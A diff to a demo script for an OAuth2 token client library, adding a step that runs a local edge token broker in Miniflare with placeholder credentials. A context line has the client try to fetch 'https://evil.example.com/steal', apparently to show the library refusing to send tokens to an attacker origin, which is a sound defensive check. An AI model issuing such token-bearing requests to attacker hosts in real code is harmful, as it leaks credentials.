@@ -1,6 +1,7 @@
 // `make demo`: tokenkit end to end on this machine. Starts a local OAuth2 token server and
 // a protected API on 127.0.0.1, then uses the built package as an app would and prints
 // what happened. Tokens are shown redacted; the client secret is never printed.
+import { Miniflare } from "miniflare";
 import { TokenClient, TokenError } from "../pkg/node.js";
 import { startFixture } from "../tests/fixtures/server.mjs";
 
@@ -46,7 +47,41 @@ try {
   await client.fetch("https://evil.example.com/steal").catch((e) => {
     console.log(`   ${e instanceof TokenError ? "TokenError" : "Error"} ${e.code}: ${e.message}`);
   });
-  console.log("\ndone: tokenkit fetched, cached, refreshed, replayed, retried and refused as designed.");
+  step(6, "through the edge broker (worker/ in real workerd): the secret stays on the edge");
+  const worker = new URL("../worker/", import.meta.url).pathname;
+  const broker = new Miniflare({
+    modules: true,
+    scriptPath: `${worker}index.js`,
+    modulesRoot: worker,
+    modulesRules: [
+      { type: "ESModule", include: ["**/*.js"] },
+      { type: "CompiledWasm", include: ["**/*.wasm"] },
+    ],
+    compatibilityDate: "2025-01-01",
+    bindings: {
+      TOKEN_URL: server.url("demo-broker", "ttl=30"),
+      CLIENT_ID: "demo-client",
+      CLIENT_SECRET: "demo-secret-never-printed",
+      PROXY_ORIGIN: server.origin,
+    },
+    host: "127.0.0.1",
+    port: 0,
+  });
+  try {
+    const brokerUrl = String(await broker.ready).replace(/\/$/, "");
+    console.log(`   broker: ${brokerUrl} (POST /token, /proxy/..., GET /healthz)`);
+    const browserLike = new TokenClient({ brokerUrl: `${brokerUrl}/token`, allowedOrigins: [server.origin] });
+    const viaBroker = await browserLike.fetch(server.api("demo-broker", "/reports"));
+    console.log(`   TokenClient({ brokerUrl }) -> API answered ${viaBroker.status}; no client secret in this client`);
+    const proxied = await fetch(`${brokerUrl}/proxy/s/demo-broker/api/reports`);
+    console.log(`   GET ${brokerUrl}/proxy/s/demo-broker/api/reports -> ${proxied.status} (the caller never held the token)`);
+    console.log(`   upstream token requests for the broker: ${server.count("demo-broker")}`);
+    browserLike.dispose();
+  } finally {
+    await broker.dispose();
+  }
+
+  console.log("\ndone: tokenkit fetched, cached, refreshed, replayed, retried, refused and brokered as designed.");
 } finally {
   client.dispose();
   await server.close();
